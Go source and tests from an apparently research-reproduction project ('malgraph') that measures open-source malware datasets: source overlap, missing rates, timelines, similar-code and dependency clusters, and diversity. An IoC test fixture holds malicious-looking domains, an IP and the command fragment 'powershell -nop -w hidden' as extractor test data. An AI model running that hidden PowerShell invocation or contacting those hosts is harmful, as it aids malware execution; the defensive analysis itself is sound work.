		t.Fatalf("similar sizes = %d,%d", len(subs[0]), len(subs[1]))
	}
	// The alpha campaign members must be together.
	joined := subs[0][0] + subs[0][1] + subs[0][2]
	for _, name := range []string{"alpha-one", "alpha-two", "alpha-three"} {
		if !containsStr(joined, name) {
			t.Fatalf("alpha member %s missing from %v", name, subs[0])
		}
	}
	// Intra-cluster similarity matches the paper's ~99.9% claim.
	for _, clusters := range mg.SimilarClusters {
		for _, c := range clusters {
			if c.IntraSim < 0.95 {
				t.Fatalf("cluster intra similarity %v too low", c.IntraSim)
			}
		}
	}
}

func TestDependencyEdges(t *testing.T) {
	mg := build(t)
	front := "PyPI/loglib-modules@1.0.0"
	core := "PyPI/pygrata@1.0.0"
	if !mg.G.HasEdge(front, core, graph.Dependency) {
		t.Fatal("front→core dependency edge missing")
	}
	if got := mg.G.InDegree(core, graph.Dependency); got != 1 {
		t.Fatalf("core in-degree = %d", got)
	}
	subs := mg.PackageSubgraphs(graph.Dependency, 2)
	if len(subs) != 1 || len(subs[0]) != 2 {
		t.Fatalf("dependency subgraphs = %v", subs)
	}
}

func TestCoexistingEdgesMergeReports(t *testing.T) {
	mg := build(t)
	subs := mg.PackageSubgraphs(graph.Coexisting, 2)
	// Both reports share alpha-two → one merged co-existing subgraph of 3.
	if len(subs) != 1 || len(subs[0]) != 3 {
		t.Fatalf("coexisting subgraphs = %v", subs)
	}
	// Ghost package must not exist as a node.
	if _, ok := mg.G.Node("PyPI/ghost-package@9.9.9"); ok {
		t.Fatal("report-only package must not be added to the graph")
	}
	// Report index populated.
	if got := len(mg.ReportsByPackage["PyPI/alpha-two@1.0.0"]); got != 2 {
		t.Fatalf("alpha-two report count = %d", got)
	}
}

func TestConnectGroupLargeUsesSparseTopology(t *testing.T) {
	ds, reps := miniDataset(t)
	cfg := DefaultConfig()
	cfg.PairwiseLimit = 2 // force sparse mode for 3-member groups
	mg, err := Build(ds, reps, cfg)
	if err != nil {
		t.Fatal(err)
	}
	subs := mg.PackageSubgraphs(graph.Similar, 2)
	if len(subs) != 2 || len(subs[0]) != 3 {
		t.Fatalf("sparse topology changed components: %v", subs)
	}
	// Edge count must be below the full clique count for 3 members (3)
	// plus the 2-member group (1): sparse gives 2·(n-1)-1 = 3 for n=3.
	if got := mg.G.EdgeCount(graph.Similar); got > 4+1 {
		t.Fatalf("sparse edges = %d", got)
	}
}

func TestEntryByNodeID(t *testing.T) {
	mg := build(t)
	e, ok := mg.EntryByNodeID("NPM/acookie@1.0.0")
	if !ok || e.Coord.Name != "acookie" {
		t.Fatalf("EntryByNodeID failed: %v %v", e, ok)
	}
	if _, ok := mg.EntryByNodeID("nope"); ok {
		t.Fatal("unknown ID resolved")
	}
}

func TestBuildNilDataset(t *testing.T) {
	if _, err := Build(nil, nil, DefaultConfig()); err == nil {
		t.Fatal("nil dataset must error")
	}
}

func TestRecordNodeID(t *testing.T) {
	coord := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "x", Version: "1"}
	id := RecordNodeID(sources.Snyk, coord)
	if !IsRecordNode(id) {
		t.Fatal("record node not recognised")
	}
	if IsRecordNode(NodeID(coord)) {
		t.Fatal("canonical node misclassified")
	}
}

func containsStr(haystack, needle string) bool {
	return len(haystack) >= len(needle) && indexOf(haystack, needle) >= 0
}

func indexOf(s, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return i
		}
	}
	return -1
}
