package analysis

// Hand-fixture unit tests for the analysis functions, complementing the
// end-to-end pipeline assertions in analysis_test.go.

import (
	"testing"
	"time"

	"malgraph/internal/collect"
	"malgraph/internal/ecosys"
	"malgraph/internal/registry"
	"malgraph/internal/reports"
	"malgraph/internal/sources"
)

var u0 = time.Date(2022, 1, 1, 0, 0, 0, 0, time.UTC)

func entry(name string, eco ecosys.Ecosystem, avail collect.Availability, srcs []sources.ID, released time.Time) *collect.Entry {
	return &collect.Entry{
		Coord:        ecosys.Coord{Ecosystem: eco, Name: name, Version: "1.0.0"},
		Availability: avail,
		Sources:      srcs,
		ReleasedAt:   released,
		RemovedAt:    released.Add(24 * time.Hour),
	}
}

func fixtureResult() *collect.Result {
	return &collect.Result{
		Entries: []*collect.Entry{
			entry("a", ecosys.PyPI, collect.FromSource, []sources.ID{sources.Backstabber, sources.MalPyPI}, u0),
			entry("b", ecosys.PyPI, collect.Missing, []sources.ID{sources.Snyk}, u0.AddDate(1, 0, 0)),
			entry("c", ecosys.NPM, collect.FromMirror, []sources.ID{sources.Tianwen, sources.Phylum, sources.Backstabber}, u0.AddDate(0, 6, 0)),
			entry("d", ecosys.RubyGems, collect.Missing, []sources.ID{sources.Socket}, u0.AddDate(2, 1, 0)),
		},
		PerSource: map[sources.ID]collect.SourceStats{
			sources.Backstabber: {Total: 2},
			sources.MalPyPI:     {Total: 1},
			sources.Snyk:        {Total: 1, LocalUnavailable: 1, GlobalMissing: 1},
			sources.Tianwen:     {Total: 1},
			sources.Phylum:      {Total: 1},
			sources.Socket:      {Total: 1, LocalUnavailable: 1, GlobalMissing: 1},
		},
	}
}

func TestOverlapFixture(t *testing.T) {
	m := Overlap(fixtureResult())
	if got := m.At(sources.Backstabber, sources.MalPyPI); got != 1 {
		t.Fatalf("B.K–M.D = %d", got)
	}
	if got := m.At(sources.Tianwen, sources.Phylum); got != 1 {
		t.Fatalf("T.–P. = %d", got)
	}
	if got := m.At(sources.Backstabber, sources.Backstabber); got != 2 {
		t.Fatalf("diagonal = %d", got)
	}
	if got := m.At(sources.Snyk, sources.Socket); got != 0 {
		t.Fatalf("unrelated pair = %d", got)
	}
	if got := m.At(sources.ID(99), sources.Snyk); got != 0 {
		t.Fatalf("unknown source = %d", got)
	}
}

func TestSourceSizesFixture(t *testing.T) {
	rows := SourceSizes(fixtureResult())
	byID := map[sources.ID]SourceSizeRow{}
	for _, r := range rows {
		byID[r.Source] = r
	}
	if byID[sources.Snyk].Unavailable != 1 || byID[sources.Snyk].Available != 0 {
		t.Fatalf("snyk row = %+v", byID[sources.Snyk])
	}
	if byID[sources.Backstabber].Available != 2 {
		t.Fatalf("bk row = %+v", byID[sources.Backstabber])
	}
}

func TestOccurrenceCDFFixture(t *testing.T) {
	cdfs := OccurrenceCDF(fixtureResult())
	// PyPI: occurrences 2 and 1.
	if got := cdfs[ecosys.PyPI].At(1); got != 0.5 {
		t.Fatalf("PyPI P(occ<=1) = %v", got)
	}
	if got := cdfs[ecosys.NPM].Quantile(1); got != 3 {
		t.Fatalf("NPM max occ = %v", got)
	}
}

func TestTimelineFixture(t *testing.T) {
	buckets := Timeline(fixtureResult())
	if len(buckets) != 3 { // 2022, 2023, 2024
		t.Fatalf("buckets = %d", len(buckets))
	}
	if buckets[0].Year != 2022 || buckets[0].All != 2 || buckets[0].Missing != 0 {
		t.Fatalf("2022 bucket = %+v", buckets[0])
	}
	if buckets[1].Year != 2023 || buckets[1].Missing != 1 {
		t.Fatalf("2023 bucket = %+v", buckets[1])
	}
}

func TestMonthlyTimelineFixture(t *testing.T) {
	monthly := MonthlyTimeline(fixtureResult(), 2022)
	if len(monthly) != 12 {
		t.Fatalf("months = %d", len(monthly))
	}
	if monthly[0].All != 1 { // January 2022: entry "a"
		t.Fatalf("jan = %+v", monthly[0])
	}
	if monthly[6].All != 1 { // July 2022: entry "c"
		t.Fatalf("jul = %+v", monthly[6])
	}
}

func TestClassifyMissingFixture(t *testing.T) {
	fleet := registry.NewFleet()
	root := registry.New("pypi", ecosys.PyPI)
	fleet.AddRoot(root)
	// One accumulate mirror: epoch 2023-01-01, period 10 days.
	m, err := registry.NewMirror("m", root, registry.SyncAccumulate,
		time.Date(2023, 1, 1, 0, 0, 0, 0, time.UTC), 10*24*time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	fleet.AddMirror(m)

	early := entry("early", ecosys.PyPI, collect.Missing, []sources.ID{sources.Snyk},
		time.Date(2020, 5, 1, 0, 0, 0, 0, time.UTC)) // before epoch
	short := entry("short", ecosys.PyPI, collect.Missing, []sources.ID{sources.Snyk},
		time.Date(2023, 6, 1, 0, 0, 0, 0, time.UTC)) // lived 1d < 10d period
	ds := &collect.Result{Entries: []*collect.Entry{early, short}}

	causes := ClassifyMissing(ds, fleet)
	if causes.EarlyRelease != 1 {
		t.Fatalf("early = %d", causes.EarlyRelease)
	}
	if causes.ShortPersistence != 1 {
		t.Fatalf("short = %d", causes.ShortPersistence)
	}
}

func TestIoCsFixture(t *testing.T) {
	body1 := "IoC list:\n  URL: hxxps://bananasquad[.]ru/a\n  URL: https://bananasquad.ru/b\n  IP: 46.226.1.2\n"
	body2 := "more:\n  URL: https://kekwltd.ru/x\n  IP: 46.226.1.2\n  CMD: powershell -nop -w hidden\n"
	corpus := []*reports.Report{
		{URL: "u1", Body: body1},
		{URL: "u2", Body: body2},
	}
	s := IoCs(corpus, 5)
	if s.UniqueURLs != 3 {
		t.Fatalf("urls = %d", s.UniqueURLs)
	}
	if s.UniqueIPs != 1 {
		t.Fatalf("ips = %d", s.UniqueIPs)
	}
	if s.PowerShell != 1 {
		t.Fatalf("powershell = %d", s.PowerShell)
	}
	if s.MaxSameIPReports != 2 {
		t.Fatalf("max same IP = %d", s.MaxSameIPReports)
	}
	if s.TopDomains[0].Domain != "bananasquad.ru" || s.TopDomains[0].Count != 2 {
		t.Fatalf("top domain = %+v", s.TopDomains[0])
	}
}

func TestMissingRatesFixture(t *testing.T) {
	rows, total := MissingRates(fixtureResult())
	if total != 0.5 {
		t.Fatalf("total MR = %v", total)
	}
	for _, r := range rows {
		if r.Source == sources.Socket && r.LocalMR != 1 {
			t.Fatalf("socket local MR = %v", r.LocalMR)
		}
		if r.Source == sources.Backstabber && r.LocalMR != 0 {
			t.Fatalf("bk local MR = %v", r.LocalMR)
		}
	}
}
