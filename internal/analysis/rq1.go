package analysis

import (
	"sort"
	"time"

	"malgraph/internal/collect"
	"malgraph/internal/ecosys"
	"malgraph/internal/registry"
	"malgraph/internal/sources"
	"malgraph/internal/stats"
)

// SourceSizes reproduces Table I: per-source available/unavailable counts.
func SourceSizes(ds *collect.Result) []SourceSizeRow {
	rows := make([]SourceSizeRow, 0, len(sources.Catalog()))
	for _, info := range sources.Catalog() {
		st := ds.PerSource[info.ID]
		rows = append(rows, SourceSizeRow{
			Source:      info.ID,
			Unavailable: st.LocalUnavailable,
			Available:   st.Total - st.LocalUnavailable,
		})
	}
	return rows
}

// Overlap reproduces Table IV from the merged dataset's per-package source
// sets (equivalently: MALGRAPH's duplicated edges).
func Overlap(ds *collect.Result) OverlapMatrix {
	ids := make([]sources.ID, 0, len(sources.Catalog()))
	index := make(map[sources.ID]int)
	for _, info := range sources.Catalog() {
		index[info.ID] = len(ids)
		ids = append(ids, info.ID)
	}
	matrix := make([][]int, len(ids))
	for i := range matrix {
		matrix[i] = make([]int, len(ids))
	}
	for _, e := range ds.Entries {
		for i := 0; i < len(e.Sources); i++ {
			matrix[index[e.Sources[i]]][index[e.Sources[i]]]++
			for j := i + 1; j < len(e.Sources); j++ {
				a, b := index[e.Sources[i]], index[e.Sources[j]]
				matrix[a][b]++
				matrix[b][a]++
			}
		}
	}
	return OverlapMatrix{IDs: ids, Matrix: matrix}
}

// OccurrenceCDF reproduces Fig. 6: per big-3 ecosystem, the CDF of how many
// sources reported each package.
func OccurrenceCDF(ds *collect.Result) map[ecosys.Ecosystem]*stats.CDF {
	samples := make(map[ecosys.Ecosystem][]float64)
	for _, e := range ds.Entries {
		eco := e.Coord.Ecosystem
		samples[eco] = append(samples[eco], float64(e.OccurrenceCount()))
	}
	out := make(map[ecosys.Ecosystem]*stats.CDF, 3)
	for _, eco := range ecosys.Big3() {
		out[eco] = stats.NewCDF(samples[eco])
	}
	return out
}

// MissingRates reproduces Table V.
func MissingRates(ds *collect.Result) ([]MissingRateRow, float64) {
	rows := make([]MissingRateRow, 0, len(sources.Catalog()))
	for _, info := range sources.Catalog() {
		st := ds.PerSource[info.ID]
		rows = append(rows, MissingRateRow{
			Source:   info.ID,
			Missing:  st.LocalUnavailable,
			Total:    st.Total,
			LocalMR:  st.LocalMR(),
			GlobalMR: st.GlobalMR(),
		})
	}
	return rows, ds.TotalMR()
}

// Timeline reproduces Fig. 7: yearly release counts of all vs missing
// packages (release metadata queried from the registries, so missing
// packages are included).
func Timeline(ds *collect.Result) []TimelineBucket {
	byYear := make(map[int]*TimelineBucket)
	for _, e := range ds.Entries {
		if e.ReleasedAt.IsZero() {
			continue
		}
		y := e.ReleasedAt.Year()
		b, ok := byYear[y]
		if !ok {
			b = &TimelineBucket{Year: y}
			byYear[y] = b
		}
		b.All++
		if e.Availability == collect.Missing {
			b.Missing++
		}
	}
	years := make([]int, 0, len(byYear))
	for y := range byYear {
		years = append(years, y)
	}
	sort.Ints(years)
	out := make([]TimelineBucket, 0, len(years))
	for _, y := range years {
		out = append(out, *byYear[y])
	}
	return out
}

// MonthlyTimeline buckets one year by month (the Fig. 7 Feb-2023 flood peak).
func MonthlyTimeline(ds *collect.Result, year int) []TimelineBucket {
	buckets := make([]TimelineBucket, 12)
	for i := range buckets {
		buckets[i] = TimelineBucket{Year: year, Month: time.Month(i + 1)}
	}
	for _, e := range ds.Entries {
		if e.ReleasedAt.Year() != year {
			continue
		}
		b := &buckets[int(e.ReleasedAt.Month())-1]
		b.All++
		if e.Availability == collect.Missing {
			b.Missing++
		}
	}
	return buckets
}

// ClassifyMissing reproduces Fig. 8: for each missing package decide whether
// it was released before the mirrors could have seen it (cause 1) or lived
// shorter than the tightest mirror sync gap (cause 2).
func ClassifyMissing(ds *collect.Result, fleet *registry.Fleet) MissingCauses {
	var out MissingCauses
	epochByEco := make(map[ecosys.Ecosystem]time.Time)
	periodByEco := make(map[ecosys.Ecosystem]time.Duration)
	for _, eco := range ecosys.All() {
		var earliest time.Time
		var shortest time.Duration
		for _, m := range fleet.Mirrors(eco) {
			epoch, period := mirrorSchedule(m)
			if earliest.IsZero() || epoch.Before(earliest) {
				earliest = epoch
			}
			if shortest == 0 || period < shortest {
				shortest = period
			}
		}
		epochByEco[eco] = earliest
		periodByEco[eco] = shortest
	}
	for _, e := range ds.MissingEntries() {
		epoch := epochByEco[e.Coord.Ecosystem]
		period := periodByEco[e.Coord.Ecosystem]
		switch {
		case epoch.IsZero() || e.ReleasedAt.IsZero():
			out.Other++
		case e.ReleasedAt.Before(epoch):
			out.EarlyRelease++
		case !e.RemovedAt.IsZero() && e.RemovedAt.Sub(e.ReleasedAt) < period:
			out.ShortPersistence++
		default:
			out.Other++
		}
	}
	return out
}

// mirrorSchedule recovers a mirror's (epoch, period) by probing LastSync —
// keeping the analysis independent of mirror internals.
func mirrorSchedule(m *registry.Mirror) (time.Time, time.Duration) {
	far := time.Date(2100, 1, 1, 0, 0, 0, 0, time.UTC)
	last, ok := m.LastSync(far)
	if !ok {
		return time.Time{}, 0
	}
	prev, ok := m.LastSync(last.Add(-time.Second))
	if !ok {
		return last, 0
	}
	period := last.Sub(prev)
	// Binary-search the earliest instant with a sync at or before it: that
	// instant is the epoch (LastSync(t) succeeds iff t ≥ epoch).
	lo := time.Date(1970, 1, 1, 0, 0, 0, 0, time.UTC)
	hi := last
	for hi.Sub(lo) > time.Second {
		mid := lo.Add(hi.Sub(lo) / 2)
		if _, ok := m.LastSync(mid); ok {
			hi = mid
		} else {
			lo = mid
		}
	}
	return hi, period
}
