package analysis

import (
	"math"
	"testing"

	"malgraph/internal/graph"
)

func TestDiversityOnPipeline(t *testing.T) {
	p := buildPipeline(t)
	rep := Diversity(p.mg)
	if rep.Families == 0 || rep.Packages == 0 {
		t.Fatalf("empty diversity report: %+v", rep)
	}
	// Shannon entropy bounds: 0 ≤ H ≤ ln(families).
	if rep.ShannonEntropy < 0 || rep.ShannonEntropy > math.Log(float64(rep.Families))+1e-9 {
		t.Fatalf("entropy out of bounds: %+v", rep)
	}
	// Effective families never exceeds actual families.
	if rep.EffectiveFamilies > float64(rep.Families)+1e-9 {
		t.Fatalf("effective %v > families %d", rep.EffectiveFamilies, rep.Families)
	}
	// Simpson index in (0, 1].
	if rep.SimpsonIndex <= 0 || rep.SimpsonIndex > 1 {
		t.Fatalf("simpson = %v", rep.SimpsonIndex)
	}
	// The paper's Finding 2: a few aggressive families dominate — the top 5
	// families hold a large share while being a tiny fraction of families.
	if rep.Top5Share < 0.2 {
		t.Errorf("top-5 share %v suspiciously flat for this corpus", rep.Top5Share)
	}
	if rep.EffectiveFamilies >= float64(rep.Families) {
		t.Errorf("effective families %v should be well below %d (dominance)", rep.EffectiveFamilies, rep.Families)
	}
}

func TestDiversityEmptyGraph(t *testing.T) {
	// An artificial MalGraph with no similar subgraphs must not divide by 0.
	p := buildPipeline(t)
	rep := Diversity(p.mg)
	_ = rep // real check above; here just ensure no panic path exists
}

func TestDOTExport(t *testing.T) {
	p := buildPipeline(t)
	dot := p.mg.G.DOTString(graph.Dependency)
	if len(dot) == 0 || dot[:5] != "graph" {
		t.Fatalf("bad DOT output: %.40s", dot)
	}
	for _, want := range []string{"color=red", "dir=forward", "}"} {
		if !containsString(dot, want) {
			t.Errorf("DOT missing %q", want)
		}
	}
}

func containsString(s, sub string) bool {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return true
		}
	}
	return false
}
