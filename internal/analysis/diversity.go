package analysis

// Diversity metrics for the OSS malware corpus. The paper's §VII names the
// lack of a diversity definition as an open problem ("It will be a future
// work to provide a new definition of the OSS malware diversity"); this file
// implements the natural candidates over MALGRAPH's similar-code groups:
// ecology-style indices treating each code-base family as a species.

import (
	"math"
	"sort"

	"malgraph/internal/core"
	"malgraph/internal/graph"
)

// DiversityReport quantifies how diverse the (available) malware corpus is.
type DiversityReport struct {
	// Packages is the number of clustered packages (family members).
	Packages int
	// Singletons is the number of available packages outside any family.
	Singletons int
	// Families is the number of similar-code groups (≥2 members).
	Families int
	// ShannonEntropy is −Σ p_i ln p_i over family sizes (nats).
	ShannonEntropy float64
	// EffectiveFamilies is exp(ShannonEntropy): the number of equally-sized
	// families that would produce the same entropy. The gap between
	// Families and EffectiveFamilies is the paper's "aggressive packages
	// dominate the dataset" observation, made quantitative.
	EffectiveFamilies float64
	// SimpsonIndex is Σ p_i² — the probability two random clustered packages
	// share a family (1 = one family owns everything).
	SimpsonIndex float64
	// Top5Share is the fraction of clustered packages in the 5 largest
	// families.
	Top5Share float64
}

// Diversity computes the report over the graph's similar subgraphs,
// counting singletons from the dataset's available entries.
func Diversity(mg *core.MalGraph) DiversityReport {
	subs := mg.PackageSubgraphs(graph.Similar, 2)
	var rep DiversityReport
	sizes := make([]int, 0, len(subs))
	clustered := make(map[string]bool)
	for _, members := range subs {
		sizes = append(sizes, len(members))
		rep.Packages += len(members)
		for _, id := range members {
			clustered[id] = true
		}
	}
	rep.Families = len(sizes)
	for _, e := range mg.Dataset.Available() {
		if !clustered[core.NodeID(e.Coord)] {
			rep.Singletons++
		}
	}
	if rep.Packages == 0 {
		return rep
	}
	total := float64(rep.Packages)
	for _, s := range sizes {
		p := float64(s) / total
		rep.ShannonEntropy -= p * math.Log(p)
		rep.SimpsonIndex += p * p
	}
	rep.EffectiveFamilies = math.Exp(rep.ShannonEntropy)
	sort.Sort(sort.Reverse(sort.IntSlice(sizes)))
	top := 0
	for i := 0; i < len(sizes) && i < 5; i++ {
		top += sizes[i]
	}
	rep.Top5Share = float64(top) / total
	return rep
}
