package analysis

import (
	"context"
	"testing"

	"malgraph/internal/attacker"
	"malgraph/internal/collect"
	"malgraph/internal/core"
	"malgraph/internal/crawler"
	"malgraph/internal/ecosys"
	"malgraph/internal/graph"
	"malgraph/internal/reports"
	"malgraph/internal/sources"
	"malgraph/internal/world"
)

// pipeline holds the full end-to-end state for the small world, built once.
type pipeline struct {
	world   *world.World
	dataset *collect.Result
	reports []*reports.Report
	mg      *core.MalGraph
}

var built *pipeline

// buildPipeline runs world→collect→crawl→parse→MALGRAPH at small scale.
func buildPipeline(t *testing.T) *pipeline {
	t.Helper()
	if built != nil {
		return built
	}
	w, err := world.Build(world.SmallScale())
	if err != nil {
		t.Fatalf("world: %v", err)
	}
	ds, err := collect.Run(w.Sources, w.Fleet, w.Config.CollectAt)
	if err != nil {
		t.Fatalf("collect: %v", err)
	}
	cr := crawler.New(w.Web, w.Web, crawler.Config{MaxPages: 100000})
	res := cr.Crawl(context.Background(), w.SeedURLs)
	reportCorpus := reports.FromPages(res.Relevant, w.Config.CollectAt)
	if len(reportCorpus) == 0 {
		t.Fatal("crawler found no reports")
	}
	mg, err := core.Build(ds, reportCorpus, core.DefaultConfig())
	if err != nil {
		t.Fatalf("core: %v", err)
	}
	built = &pipeline{world: w, dataset: ds, reports: reportCorpus, mg: mg}
	return built
}

func TestCrawlerRecoversReportCorpus(t *testing.T) {
	p := buildPipeline(t)
	// The crawler should find nearly every generated report page.
	if got, want := len(p.reports), len(p.world.Reports); got < want*9/10 {
		t.Fatalf("crawled %d reports, world has %d", got, want)
	}
}

func TestTable1SourceSizes(t *testing.T) {
	p := buildPipeline(t)
	rows := SourceSizes(p.dataset)
	if len(rows) != 10 {
		t.Fatalf("Table I rows = %d", len(rows))
	}
	for _, row := range rows {
		info, _ := sources.InfoFor(row.Source)
		if info.CarriesArtifacts && row.Unavailable > 0 {
			t.Errorf("%s: artifact-carrying source has %d unavailable", info.Name, row.Unavailable)
		}
	}
}

func TestTable4OverlapShape(t *testing.T) {
	p := buildPipeline(t)
	m := Overlap(p.dataset)
	// Matrix is symmetric with non-negative entries.
	for i := range m.Matrix {
		for j := range m.Matrix {
			if m.Matrix[i][j] != m.Matrix[j][i] {
				t.Fatalf("overlap not symmetric at %d,%d", i, j)
			}
		}
	}
	// Backstabber–MalPyPI is the dominant academia overlap (paper: 2,897).
	bkMd := m.At(sources.Backstabber, sources.MalPyPI)
	if bkMd == 0 {
		t.Fatal("B.K–M.D overlap missing")
	}
	for _, pair := range [][2]sources.ID{
		{sources.GitHubAdvisory, sources.Snyk},
		{sources.Socket, sources.Phylum},
	} {
		if got := m.At(pair[0], pair[1]); got > bkMd {
			t.Errorf("industry pair %v overlap %d exceeds academia aggregation %d", pair, got, bkMd)
		}
	}
	// Diagonal equals per-source totals.
	for _, info := range sources.Catalog() {
		if got, want := m.At(info.ID, info.ID), p.dataset.PerSource[info.ID].Total; got != want {
			t.Errorf("%s diagonal %d != total %d", info.Name, got, want)
		}
	}
}

func TestFigure6OccurrenceCDF(t *testing.T) {
	p := buildPipeline(t)
	cdfs := OccurrenceCDF(p.dataset)
	for _, eco := range ecosys.Big3() {
		c := cdfs[eco]
		if c.Len() == 0 {
			t.Fatalf("%s: empty occurrence CDF", eco)
		}
		if c.Quantile(1) > 4 {
			t.Fatalf("%s: occurrence beyond Fig. 6 max of 4", eco)
		}
	}
	// Most NPM packages appear exactly once (paper: 80–90%).
	if frac := cdfs[ecosys.NPM].At(1); frac < 0.6 {
		t.Errorf("NPM single-occurrence fraction %v too low", frac)
	}
}

func TestTable5MissingRates(t *testing.T) {
	p := buildPipeline(t)
	rows, total := MissingRates(p.dataset)
	if total < 0.2 || total > 0.6 {
		t.Fatalf("total MR %v far from paper's 0.3927", total)
	}
	byID := make(map[sources.ID]MissingRateRow)
	for _, r := range rows {
		byID[r.Source] = r
	}
	// Orderings from Table V: academia ≈ 0; Socket worst.
	if byID[sources.Backstabber].LocalMR != 0 {
		t.Errorf("Backstabber MR %v", byID[sources.Backstabber].LocalMR)
	}
	if byID[sources.Socket].LocalMR < byID[sources.Tianwen].LocalMR {
		t.Errorf("Socket (%v) should exceed Tianwen (%v)",
			byID[sources.Socket].LocalMR, byID[sources.Tianwen].LocalMR)
	}
	// Global ≤ local everywhere.
	for _, r := range rows {
		if r.GlobalMR > r.LocalMR+1e-9 {
			t.Errorf("%v: global %v > local %v", r.Source, r.GlobalMR, r.LocalMR)
		}
	}
}

func TestFigure7Timeline(t *testing.T) {
	p := buildPipeline(t)
	buckets := Timeline(p.dataset)
	if len(buckets) < 8 {
		t.Fatalf("timeline years = %d", len(buckets))
	}
	var all, missing int
	for _, b := range buckets {
		all += b.All
		missing += b.Missing
		if b.Missing > b.All {
			t.Fatalf("bucket %d: missing > all", b.Year)
		}
	}
	if all != len(p.dataset.Entries) {
		t.Fatalf("timeline total %d != entries %d", all, len(p.dataset.Entries))
	}
	// Feb-2023 flood peak visible in the monthly view.
	monthly := MonthlyTimeline(p.dataset, 2023)
	feb := monthly[1]
	for i, b := range monthly {
		if i != 1 && b.Missing > feb.Missing {
			t.Fatalf("Feb 2023 must be the missing peak, but month %d has %d > %d", i+1, b.Missing, feb.Missing)
		}
	}
}

func TestFigure8MissingCauses(t *testing.T) {
	p := buildPipeline(t)
	causes := ClassifyMissing(p.dataset, p.world.Fleet)
	total := causes.EarlyRelease + causes.ShortPersistence + causes.Other
	if total != len(p.dataset.MissingEntries()) {
		t.Fatalf("cause counts %d != missing %d", total, len(p.dataset.MissingEntries()))
	}
	if causes.ShortPersistence == 0 || causes.EarlyRelease == 0 {
		t.Fatalf("both Fig. 8 causes must occur: %+v", causes)
	}
	// Short persistence dominates (flood + ultra-short singletons).
	if causes.ShortPersistence < causes.EarlyRelease {
		t.Errorf("expected short persistence to dominate: %+v", causes)
	}
}

func TestTable6SimilarSubgraphs(t *testing.T) {
	p := buildPipeline(t)
	rows := SubgraphStatsFor(p.mg, graph.Similar)
	byEco := map[ecosys.Ecosystem]SubgraphStats{}
	for _, r := range rows {
		byEco[r.Eco] = r
	}
	npm, pypi := byEco[ecosys.NPM], byEco[ecosys.PyPI]
	if npm.SubgraphNum == 0 || pypi.SubgraphNum == 0 {
		t.Fatalf("similar subgraphs missing: %+v", rows)
	}
	// PyPI has more subgraphs than NPM; NPM's average size exceeds
	// RubyGems' (paper: 19.07 vs 2.24).
	if pypi.SubgraphNum < npm.SubgraphNum {
		t.Errorf("PyPI groups %d < NPM %d", pypi.SubgraphNum, npm.SubgraphNum)
	}
	rg := byEco[ecosys.RubyGems]
	if rg.SubgraphNum > 0 && rg.AvgSize > npm.AvgSize {
		t.Errorf("RubyGems avg %v should be below NPM %v", rg.AvgSize, npm.AvgSize)
	}
	// Largest groups dwarf the average (827/829 in the paper).
	if npm.LargestSize < 3*int(npm.AvgSize) {
		t.Errorf("NPM largest %d vs avg %v lacks heavy tail", npm.LargestSize, npm.AvgSize)
	}
}

func TestFigure9SimilarOperations(t *testing.T) {
	p := buildPipeline(t)
	dist := Operations(p.mg, graph.Similar)
	if dist.Transitions == 0 {
		t.Fatal("no transitions")
	}
	if dist.CN < 0.75 || dist.CN > 0.97 {
		t.Errorf("CN %v far from paper's 0.8865", dist.CN)
	}
	if dist.CV < 0.03 || dist.CV > 0.25 {
		t.Errorf("CV %v far from paper's 0.1135", dist.CV)
	}
	if dist.CC < 0.3 || dist.CC > 0.8 {
		t.Errorf("CC %v far from paper's 0.5934", dist.CC)
	}
	if dist.CDep > dist.CD {
		t.Errorf("CDep %v should be rarest (paper: 1.76%%)", dist.CDep)
	}
	// ~1-line code changes (paper: 0.88 average).
	if dist.AvgChangedLines <= 0 || dist.AvgChangedLines > 5 {
		t.Errorf("avg changed lines %v far from paper's 0.88", dist.AvgChangedLines)
	}
}

func TestFigure10SimilarActivePeriods(t *testing.T) {
	p := buildPipeline(t)
	st := ActivePeriods(p.mg, graph.Similar)
	if st.CDF.Len() == 0 {
		t.Fatal("no similar subgraph periods")
	}
	// 80% under ~15 days.
	if frac := st.CDF.At(15); frac < 0.6 {
		t.Errorf("P(active<=15d) = %v, paper ~0.8", frac)
	}
	if st.Summary.Mean < 5 {
		t.Errorf("mean active %v days too small (paper 45.16)", st.Summary.Mean)
	}
}

func TestTable7And8Dependencies(t *testing.T) {
	p := buildPipeline(t)
	rows := SubgraphStatsFor(p.mg, graph.Dependency)
	byEco := map[ecosys.Ecosystem]SubgraphStats{}
	for _, r := range rows {
		byEco[r.Eco] = r
	}
	if byEco[ecosys.PyPI].LargestSize <= byEco[ecosys.RubyGems].LargestSize {
		t.Errorf("PyPI dep subgraph should dominate: %+v", rows)
	}
	targets := TopDependencyTargets(p.mg, 2)
	if len(targets) == 0 {
		t.Fatal("no dependency targets")
	}
	// urllib must top the PyPI ranking (Table VIII).
	var pypiTop *DepTarget
	for i := range targets {
		if targets[i].Eco == ecosys.PyPI {
			pypiTop = &targets[i]
			break
		}
	}
	if pypiTop == nil || pypiTop.Name != "urllib" {
		t.Errorf("PyPI top dependency = %+v, want urllib", pypiTop)
	}
	cores, fronts := DependencyReuse(p.mg, 2)
	if cores == 0 || fronts <= cores {
		t.Errorf("dependency reuse cores=%d fronts=%d", cores, fronts)
	}
}

func TestFigure11DependencyActiveShorter(t *testing.T) {
	p := buildPipeline(t)
	dep := ActivePeriods(p.mg, graph.Dependency)
	sim := ActivePeriods(p.mg, graph.Similar)
	if dep.CDF.Len() == 0 {
		t.Fatal("no dependency subgraph periods")
	}
	// Finding 3: dependency-hidden campaigns live shorter than similar-code
	// campaigns (10.5 vs 45.16 days mean).
	if dep.Summary.Mean >= sim.Summary.Mean {
		t.Errorf("dep mean %v should be below similar mean %v", dep.Summary.Mean, sim.Summary.Mean)
	}
}

func TestTable9CoexistingSubgraphs(t *testing.T) {
	p := buildPipeline(t)
	rows := SubgraphStatsFor(p.mg, graph.Coexisting)
	byEco := map[ecosys.Ecosystem]SubgraphStats{}
	for _, r := range rows {
		byEco[r.Eco] = r
	}
	pypi := byEco[ecosys.PyPI]
	npm := byEco[ecosys.NPM]
	if pypi.SubgraphNum == 0 || npm.SubgraphNum == 0 {
		t.Fatalf("coexisting subgraphs missing: %+v", rows)
	}
	// PyPI co-existing groups are the largest on average (the flood report
	// chain; paper: 181.23 vs 94.24).
